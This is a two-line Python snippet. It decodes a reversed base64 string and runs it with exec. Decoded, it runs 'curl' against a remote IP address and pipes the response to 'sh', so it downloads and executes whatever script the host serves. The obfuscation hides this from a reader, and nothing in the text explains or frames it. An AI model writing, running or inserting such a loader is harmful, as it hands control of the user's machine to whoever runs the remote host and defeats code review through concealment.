import base64
exec(base64.b64decode('pcCazxXYvkjLzETMuAjLzAjMv8iOwRHdoBCbyV3YngSblR3c5NnLz92Oz9GI0J3bw1Wa'[::-1]))
